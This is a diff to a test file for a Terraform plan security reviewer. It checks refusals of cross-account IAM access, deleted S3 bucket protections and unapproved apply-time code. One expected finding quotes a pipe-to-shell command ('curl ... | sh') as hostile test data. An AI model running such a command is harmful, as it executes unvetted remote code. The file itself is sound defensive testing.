@@ -279,8 +279,6 @@ describeWithTerraform("the whole-plan rules on real plans (Terraform 1.11, AWS p
     ["PR-IAM-1", "aws_sns_topic_policy.Alarms", "(known after apply)"],
     ["PR-IAM-1", "aws_s3_bucket_policy.Shared", `Readers admits arn:aws:iam::${OTHER}:role/readers`],
     ["PR-KMS-5", "aws_kms_key.Data", "(dropped or changed)"],
-    ["PR-S3-6", "aws_s3_bucket_public_access_block.Logs", "(deleted)"],
-    ["PR-S3-6", "aws_s3_bucket_policy.Logs", "(deleted)"],
     ["PR-BACKUP-4", "aws_backup_plan.Daily", "year field"],
     ["PR-CODE-1", "terraform_data.Wait", "curl -fsS https://example.com/x.sh | sh"],
   ];
@@ -297,12 +295,24 @@ describeWithTerraform("the whole-plan rules on real plans (Terraform 1.11, AWS p
     expect(found.map((f) => `${f.rule} ${f.address}`).sort()).toEqual(REFUSED.map(([r, a]) => `${r} ${a}`).sort());
   });
 
+  test.each(["aws_s3_bucket_public_access_block.Logs", "aws_s3_bucket_policy.Logs"])(
+    "deleting %s (a bucket's protection) is refused in production by the default-deny of governing types, not elsewhere",
+    (address) => {
+      expect(
+        review(harmful)
+          .blocked.filter((f) => f.address === address)
+          .map((f) => f.kind),
+      ).toEqual(["delete"]);
+      expect(review(harmful, false).blocked.filter((f) => f.address === address)).toEqual([]);
+    },
+  );
+
   test("non-production: another account and unapproved apply-time code are still refused; the production-only classes are not", () => {
     const rules = review(harmful, false).blocked.map((f) => `${f.rule} ${f.address}`);
     expect(rules).toEqual(
       expect.arrayContaining(["PR-IAM-1 aws_iam_role.Deploy", "PR-IAM-1 aws_kms_key.Data", "PR-CODE-1 terraform_data.Wait"]),
     );
-    expect(rules.filter((r) => /PR-KMS-5|PR-S3-6|PR-BACKUP-4|aws_sns_topic_policy/.test(r))).toEqual([]);
+    expect(rules.filter((r) => /PR-KMS-5|PR-BACKUP-4|aws_sns_topic_policy/.test(r))).toEqual([]);
   });
 
   test("the bucket policies of a new bucket are unknown in both plans: judged from their policy document's planned read", () => {
